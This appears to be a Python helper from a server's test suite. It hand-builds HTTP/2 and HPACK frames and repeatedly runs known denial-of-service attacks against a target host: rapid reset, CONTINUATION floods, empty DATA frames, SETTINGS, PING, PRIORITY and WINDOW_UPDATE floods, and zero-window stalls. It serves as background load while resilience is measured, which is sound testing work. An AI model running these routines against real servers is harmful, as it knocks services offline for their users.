"""Just enough HTTP/2 (RFC 9113) and HPACK (RFC 7541) to write what no library would, and to read how it ended.

As a program, `frames.py HOST PORT` abuses a server in every way of `ABUSE`, over and over, until its standard input ends,
and prints how many connections that took: load for the test that measures good calls beside it, in a process of its own.
"""

import select
import socket
import struct
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(value, bits, first=0):
    """An HPACK integer with a prefix of `bits`."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytes([first | most]), value - most
    while value >= 128:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def field(name, value, indexed=False):
    """A literal field, without Huffman coding."""
    return bytes([0x40 if indexed else 0]) + number(len(name), 7) + name + number(len(value), 7) + value


def fields(*pairs):
    return b"".join(field(n, v) for n, v in pairs)


def health(host=b"127.0.0.1"):
    """A request that a server answers 200, unsigned."""
    return [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/_flint/health"), (b":authority", host)]


def settings(**values):
    names = {"table": 1, "push": 2, "streams": 3, "window": 4, "frame": 5, "list": 6}
    return frame(SETTINGS, payload=b"".join(struct.pack(">HI", names[n], v) for n, v in values.items()))


def get(stream, block=None, end=True):
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, fields(*health()) if block is None else block)


def reset(stream):
    return frame(RESET, 0, stream, struct.pack(">I", 8))


STATUS = {0x88: 200, 0x89: 204, 0x8A: 206, 0x8B: 304, 0x8C: 400, 0x8D: 404, 0x8E: 500}
DIGITS = {"00000": "0", "00001": "1", "00010": "2", "011001": "3", "011010": "4", "011011": "5", "011100": "6", "011101": "7",
          "011110": "8", "011111": "9"}


def status_of(block):
    """The status that begins the first answer of a connection."""
    while block and block[0] & 0xE0 == 0x20:  # a change of the table's size
        block = block[1:]
    if block[0] in STATUS:
        return STATUS[block[0]]
    assert block[0] in (0x48, 0x08, 0x18), block
    size, text = block[1] & 127, block[2:2 + (block[1] & 127)]
    if not block[1] & 128:
        return int(text)
    bits, found = "".join(f"{b:08b}" for b in text[:size]), ""
    while len(found) < 3:
        code = next(c for c in DIGITS if bits.startswith(c))
        found, bits = found + DIGITS[code], bits[len(code):]
    return int(found)


class Connection:
    def __init__(self, address, first=None, timeout=10):
        self.socket = socket.create_connection(address, timeout=timeout)
        self.input = b""
        self.socket.sendall(PREFACE + settings() if first is None else first)

    def send(self, data):
        """False if the server no longer takes anything."""
        try:
            self.socket.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, TimeoutError):
            return False

    def read(self):
        """The next frame: kind, flags, stream, payload. None at the end."""
        while len(self.input) < 9 or len(self.input) < 9 + int.from_bytes(self.input[:3]):
            try:
                piece = self.socket.recv(65536)
            except (ConnectionResetError, BrokenPipeError):
                return None
            if not piece:
                return None
            self.input += piece
        size = int.from_bytes(self.input[:3])
        head, payload, self.input = self.input[:9], self.input[9:9 + size], self.input[9 + size:]
        return head[3], head[4], int.from_bytes(head[5:9]) & 0x7FFFFFFF, payload

    def outcome(self, stream=1):
        """How a request ended: a status, "reset" or "closed"."""
        while True:
            got = self.read()
            if got is None or got[0] == GOAWAY and struct.unpack(">I", got[3][4:8])[0] != 0:
                return "closed"
            if got[2] == stream and got[0] == RESET:
                return "reset"
            if got[2] == stream and got[0] == HEADERS:
                return status_of(got[3])

    def drained(self):
        """Reads on until the server closes; what it said last about why (an error code)."""
        code = None
        while (got := self.read()) is not None:
            if got[0] == GOAWAY:
                code = struct.unpack(">I", got[3][4:8])[0]
        return code

    def close(self):
        self.socket.close()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()


# Each sends without end; `rounds` bounds what a test waits for. They give how much was sent until the server closed.


def batches(connection, make, rounds):
    for n in range(rounds):
        if not connection.send(make(n)):
            return n
        if n % 16 == 15 and is_closed(connection):
            return n
    return rounds


def is_closed(connection):
    """Looks without waiting; what comes in is thrown away."""
    connection.socket.setblocking(False)
    try:
        while piece := connection.socket.recv(1 << 16):
            connection.input = (connection.input + piece)[-(1 << 16):]
        return True
    except BlockingIOError:
        return False
    except OSError:
        return True
    finally:
        connection.socket.settimeout(10)


def rapid_reset(connection, rounds):
    def make(n):
        return b"".join(get(s) + reset(s) for s in range(n * 128 + 1, n * 128 + 129, 2))
    return batches(connection, make, rounds)


def late_reset(connection, rounds):
    """As above, with each request's body still to come, so that a handler waits when the reset comes."""
    block = fields((b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/2015-03-31/functions"), (b":authority", b"127.0.0.1"),
                   (b"authorization", b"AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20261121/us-east-1/lambda/aws4_request"))

    def make(n):
        streams = range(n * 32 + 1, n * 32 + 33, 2)
        return b"".join(get(s, block, end=False) for s in streams) + b"".join(reset(s) for s in streams)
    return batches(connection, make, rounds)


def continuations(connection, rounds):
    connection.send(frame(HEADERS, END_STREAM, 1, fields(*health())))
    return batches(connection, lambda _: frame(CONTINUATION, 0, 1, field(b"x-a", b"v" * 16000)), rounds)


def small_continuations(connection, rounds):
    connection.send(frame(HEADERS, END_STREAM, 1, fields(*health())))
    return batches(connection, lambda _: frame(CONTINUATION, 0, 1, field(b"a", b"b")) * 100, rounds)


def empty_continuations(connection, rounds):
    connection.send(frame(HEADERS, END_STREAM, 1, fields(*health())))
    return batches(connection, lambda _: frame(CONTINUATION, 0, 1) * 1000, rounds)


def empty_data(connection, rounds):
    block = fields((b":method", b"POST"), *health()[1:])
    connection.send(get(1, block, end=False))
    return batches(connection, lambda _: frame(DATA, 0, 1) * 1000, rounds)


def settings_flood(connection, rounds):
    return batches(connection, lambda _: settings(window=65535) * 1000, rounds)


def ping_flood(connection, rounds):
    return batches(connection, lambda _: frame(PING, payload=b"12345678") * 1000, rounds)


def priority_flood(connection, rounds):
    return batches(connection, lambda n: frame(PRIORITY, 0, n * 2 + 1, struct.pack(">IB", 0, 1)) * 1000, rounds)


def window_flood(connection, rounds):
    connection.send(settings(window=0))
    return batches(connection, lambda _: frame(WINDOW, 0, 0, b"\0\0\0\1") * 1000, rounds)


def zero_window(connection, rounds):
    """Asks and never lets anything come."""
    connection.send(settings(window=0))
    return batches(connection, lambda n: get(n * 2 + 1), rounds)


ABUSE = [rapid_reset, late_reset, continuations, small_continuations, empty_continuations, empty_data, settings_flood, ping_flood,
         priority_flood, window_flood, zero_window]


def main():
    host, port, done = sys.argv[1], int(sys.argv[2]), 0
    print("ready", flush=True)
    while not select.select([sys.stdin], [], [], 0)[0]:
        for abuse in ABUSE:
            try:
                with Connection((host, port)) as connection:
                    abuse(connection, 20)
                    done += 1
            except OSError:
                pass
    print(done)


if __name__ == "__main__":
    main()
